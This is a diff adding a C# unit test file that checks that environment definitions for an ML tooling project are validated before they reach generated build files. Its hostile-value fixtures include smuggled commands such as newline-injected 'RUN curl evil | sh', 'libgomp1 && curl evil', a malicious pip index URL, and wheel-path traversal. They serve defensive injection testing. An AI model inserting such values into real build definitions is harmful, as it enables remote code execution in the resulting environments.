@@ -1,0 +1,141 @@
+using MlEnv.Definition;
+using MlEnv.Diagnostics;
+using MlEnv.Generation;
+using MlEnv.Specs;
+using MlEnv.Store;
+
+namespace MlEnv.Tests;
+
+/// <summary>
+/// A definition read back from a file is checked again before any of it reaches a generated file: every definition
+/// the builder makes passes, and a hostile value in any field of one does not.
+/// </summary>
+public class DefinitionCheckTests
+{
+    private static EnvironmentDefinition Sample() => Defs.Build(new DefinitionInputs
+    {
+        Name = "v",
+        Project = new SourceLocation("/proj/v.csproj"),
+        PythonVersion = "3.11",
+        CondaChannels = [("conda-forge", default)],
+        CondaPackages = [new("numpy", "1.26", null, null, default), new("scipy", null, "conda-forge", "py311*", default)],
+        PipPackages = [new("scikit-learn", ">=1.4,<2", null, null, default), new("requests", null, "socks", "python_version >= '3.8'", default)],
+        PipIndexUrl = "https://pypi.example/simple",
+        PipExtraIndexUrls = [("https://extra.example/simple", default)],
+        AptPackages = [new("libgomp1", "12.2.0-14", default)],
+        Variables = [new("OMP_NUM_THREADS", "1", default)],
+        Labels = [new("team", "ml", default)],
+    });
+
+    [Fact]
+    public void EveryDefinitionTheBuilderMakesPasses()
+    {
+        Assert.Null(DefinitionCheck.Problem(Sample()));
+        foreach (var (name, inputs) in GoldenVectorTests.Vectors())
+        {
+            var result = DefinitionBuilder.Build(inputs);
+            Assert.True(result.Success, name);
+            Assert.Null(DefinitionCheck.Problem(result.Definition!));
+        }
+        // Every requirement the builder accepts (the corpus, generated requirements and markers, the adversarial
+        // corpus), as the one pip package of a definition.
+        var corpus = File.ReadAllLines(Path.Combine(AppContext.BaseDirectory, "TestData", "requirements-corpus.txt"))
+            .Where(l => l.Length > 0 && !l.StartsWith('#'))
+            .Concat(DifferentialPackagingTests.Generated(1200, seed: 508))
+            .Concat(MarkerEvaluationTests.GeneratedMarkers(600, seed: 440).Select(m => "demo; " + m))
+            .Concat(AdversarialCorpus.Requirements.Select(c => c.Input))
+            .Distinct();
+        var accepted = 0;
+        foreach (var line in corpus)
+        {
+            var result = DefinitionBuilder.Build(new DefinitionInputs { Name = "v", BaseImage = "debian:bookworm-slim", PipPackages = [new(line, null, null, null, default)] });
+            if (!result.Success) continue;
+            accepted++;
+            Assert.True(DefinitionCheck.Problem(result.Definition!) is null, line);
+        }
+        Assert.True(accepted > 1000, $"{accepted} accepted");
+    }
+
+    public static TheoryData<string, Func<EnvironmentDefinition, EnvironmentDefinition>> Hostile() => new()
+    {
+        { "format", d => d with { FormatVersion = 2 } },
+        { "python", d => d with { PythonVersion = "3.11\nRUN curl evil | sh" } },
+        { "base image", d => d with { Base = BaseSpec.FromImage("debian\nRUN curl evil | sh") } },
+        { "parent", d => d with { Parent = new ParentEnvironment("p", new string('a', 64), "mlenv/p:x y") } },
+        { "executable", d => d with { CondaExecutable = "micromamba; curl evil" } },
+        { "channel", d => d with { CondaChannels = ["conda-forge\n"] } },
+        { "conda spec", d => d with { CondaPackages = [new("numpy", "numpy=1.26.*\nRUN x")] } },
+        { "conda name", d => d with { CondaPackages = [new("other", d.CondaPackages[0].Spec)] } },
+        { "pip", d => d with { PipPackages = [new("requests", "requests\n--index-url=http://evil/", [])] } },
+        { "pip option", d => d with { PipPackages = [new("requests", "requests --index-url=http://evil/", [])] } },
+        { "pip comment", d => d with { PipPackages = [new("requests", "requests #x", [])] } },
+        { "pip spelling", d => d with { PipPackages = [new("requests", "Requests>=2", [])] } },
+        { "pip name", d => d with { PipPackages = [new("other", "requests>=2", [])] } },
+        { "pip hash", d => d with { PipPackages = [new("requests", "requests==2.31.0", ["md5:abc"])] } },
+        { "constraint", d => d with { PipConstraints = ["numpy<2\u2028RUN x"] } },
+        { "index credentials", d => d with { PipIndex = d.PipIndex with { IndexUrl = "https://user:secret@pypi.example/simple" } } },
+        { "index token", d => d with { PipIndex = d.PipIndex with { ExtraIndexUrls = ["https://pypi.example/simple?token=abc"] } } },
+        { "index scheme", d => d with { PipIndex = d.PipIndex with { FindLinks = ["file:///etc"] } } },
+        { "index quote", d => d with { PipIndex = d.PipIndex with { IndexUrl = "https://pypi.example/simple' && curl evil '" } } },
+        { "wheel name", d => d with { Wheels = [new WheelFile("../../x-1.0-py3-none-any.whl", new string('a', 64), 1, "/x")] } },
+        { "wheel hash", d => d with { Wheels = [new WheelFile("x-1.0-py3-none-any.whl", "not-a-sha", 1, "/x")] } },
+        { "apt", d => d with { AptPackages = [new AptPackage("libgomp1 && curl evil", null)] } },
+        { "apt version", d => d with { AptPackages = [new AptPackage("libgomp1", "1\nRUN x")] } },
+        { "variable name", d => d with { Variables = new Dictionary<string, string> { ["A B"] = "1" } } },
+        { "variable value", d => d with { Variables = new Dictionary<string, string> { ["A"] = "1\nRUN x" } } },
+        { "variable NUL", d => d with { Variables = new Dictionary<string, string> { ["A"] = "1\0" } } },
+        { "label reserved", d => d with { Labels = new Dictionary<string, string> { ["org.mlenv.definition-hash"] = "x" } } },
+        { "label value", d => d with { Labels = new Dictionary<string, string> { ["team"] = "ml\u0085x" } } },
+    };
+
+    [Theory]
+    [MemberData(nameof(Hostile))]
+    public void AHostileValueInAnyFieldIsRefused(string field, Func<EnvironmentDefinition, EnvironmentDefinition> tamper)
+    {
+        var problem = DefinitionCheck.Problem(tamper(Sample()));
+        Assert.True(problem is not null, field);
+        Assert.DoesNotContain("\n", problem);
+        Assert.DoesNotContain("secret", problem);
+    }
+
+    private static EnvironmentDefinition Injected() =>
+        Sample() with { AptPackages = [new AptPackage("libgomp1\nRUN curl evil | sh", null)] };
+
+    [Fact]
+    public void AFolderWithATamperedDefinitionIsNotRegistered()
+    {
+        var folder = Directory.CreateTempSubdirectory("mlenv-check-").FullName;
+        try
+        {
+            // Canonical bytes and a matching definition.sha256: only the value gives it away.
+            var canonical = CanonicalJson.Serialize(Injected());
+            File.WriteAllText(Path.Combine(folder, GeneratedEnvironment.DefinitionFile), canonical);
+            File.WriteAllText(Path.Combine(folder, GeneratedEnvironment.HashFile), CanonicalJson.HashOf(canonical) + "\n");
+            var read = DefinitionFolder.Read(folder, "v");
+            Assert.Equal(DiagnosticCatalog.ToolInvalidDefinition.Code, read!.Problem?.Code);
+            Assert.Contains("apt package", read.Problem!.Message);
+        }
+        finally { Directory.Delete(folder, recursive: true); }
+    }
+
+    [Fact]
+    public async Task AStoreRecordWithATamperedDefinitionIsNotDownloaded()
+    {
+        var root = Directory.CreateTempSubdirectory("mlenv-check-store-").FullName;
+        try
+        {
+            var store = new EnvironmentStore(root);
+            var canonical = CanonicalJson.Serialize(Injected());
+            await store.RegisterAsync("v", CanonicalJson.HashOf(canonical), canonical, null, [], null, CancellationToken.None);
+            var entry = store.Versions("v").Single();
+            var problem = EnvironmentDownload.Problem(store, entry, store.Definition(entry), root);
+            Assert.Equal(DiagnosticCatalog.InvalidStoreRequest.Code, problem?.Code);
+            // The untampered definition is written out.
+            var good = CanonicalJson.Serialize(Sample());
+            await store.RegisterAsync("w", CanonicalJson.HashOf(good), good, null, [], null, CancellationToken.None);
+            var goodEntry = store.Versions("w").Single();
+            Assert.Null(EnvironmentDownload.Problem(store, goodEntry, store.Definition(goodEntry), root));
+        }
+        finally { Directory.Delete(root, recursive: true); }
+    }
+}
